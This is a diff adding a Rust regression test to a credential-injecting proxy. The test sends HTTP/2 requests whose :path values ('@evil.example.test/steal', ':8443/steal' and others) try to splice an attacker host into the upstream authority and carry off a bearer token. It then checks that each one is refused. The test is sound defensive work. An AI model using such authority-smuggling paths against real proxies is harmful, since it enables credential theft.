@@ -451,3 +451,68 @@ async fn exfil_method_override_is_refused_for_method_scoped_services() {
     assert_eq!(app.upstream.last().header("authorization"), None);
     assert_eq!(app.upstream.count(), before + 1);
 }
+
+/// An h2 `:path` that is not origin-form (`@evil...`, `.evil...`, `:8443/...`) must not splice
+/// into the upstream URI's authority: found in review, the request used to leave for the
+/// attacker's host with the credential attached.
+#[tokio::test]
+async fn exfil_h2_path_that_rewrites_the_authority() {
+    let app = spawn_app().await;
+    app.create_vault("h2path").await;
+    app.set_credentials("h2path", &[("KEY", SECRET)]).await;
+    app.set_services_yaml(
+        "h2path",
+        "- name: api\n  host: api.example.test\n  auth: {type: bearer, token: KEY}\n",
+    )
+    .await;
+    let (token, _) = app.proxy_token("h2path").await;
+    let ca = app.ca_pem().await;
+    for path in [
+        "@evil.example.test/steal",
+        ".evil.example.test/steal",
+        ":8443/steal",
+        "evil",
+        "*",
+    ] {
+        let tunnel = agent::connect(
+            app.proxy,
+            "api.example.test:443",
+            Some(&basic(&token, "h2path")),
+        )
+        .await
+        .unwrap();
+        let tls = agent::tls(tunnel, Some("api.example.test"), Some(&ca), &[b"h2"])
+            .await
+            .unwrap();
+        let (mut sender, conn) = hyper::client::conn::http2::handshake(
+            hyper_util::rt::TokioExecutor::new(),
+            hyper_util::rt::TokioIo::new(tls),
+        )
+        .await
+        .unwrap();
+        tokio::spawn(conn);
+        let mut parts = http::uri::Parts::default();
+        parts.scheme = Some(http::uri::Scheme::HTTPS);
+        parts.authority = Some(http::uri::Authority::from_static("api.example.test"));
+        let Ok(pq) = http::uri::PathAndQuery::try_from(path) else {
+            continue;
+        };
+        parts.path_and_query = Some(pq);
+        let Ok(uri) = http::Uri::from_parts(parts) else {
+            continue;
+        };
+        let req = Request::builder()
+            .method("GET")
+            .uri(uri)
+            .body(Full::new(Bytes::new()))
+            .unwrap();
+        if let Ok(resp) = sender.send_request(req).await {
+            assert_eq!(resp.status(), 400, "{path}");
+        }
+    }
+    for r in app.upstream.requests() {
+        assert_ne!(r.sni.as_deref(), Some("evil.example.test"));
+        assert!(!r.path_and_query.contains("steal"), "{r:?}");
+    }
+    assert_eq!(app.upstream.count(), 0, "nothing reached any upstream");
+}
